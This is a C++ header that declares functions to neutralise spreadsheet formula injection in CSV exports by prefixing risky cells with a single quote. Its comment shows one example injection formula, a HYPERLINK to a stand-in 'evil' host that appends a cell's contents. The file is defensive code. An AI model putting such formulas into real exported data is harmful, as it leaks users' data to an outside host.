// SPDX-FileCopyrightText: 2026 The Casetrail authors
// SPDX-License-Identifier: MulanPSL-2.0

#pragma once
// Cells of a CSV file that people open in a spreadsheet. Excel, LibreOffice and WPS run a cell that begins
// with '=', '+', '-' or '@' as a formula (a tab or a carriage return before it is dropped first), so a
// case number such as =HYPERLINK("http://evil/?"&A1,"open") becomes a live link or a command. Every
// exporter writes its cells through these, so that no text from the register reaches a spreadsheet as a
// formula (OWASP's advice: a leading single quote, which the spreadsheet shows as text).

#include <string>
#include <string_view>

namespace casetrail::common {

// The cell with a single quote before it when it begins with '=', '+', '-', '@', a tab or a carriage
// return; otherwise the cell as it is.
std::string neutralise_formula(std::string_view cell);

// One field of an RFC 4180 line: the cell neutralised, in double quotes, its quotes doubled.
std::string quoted_csv_field(std::string_view cell);

}  // namespace casetrail::common
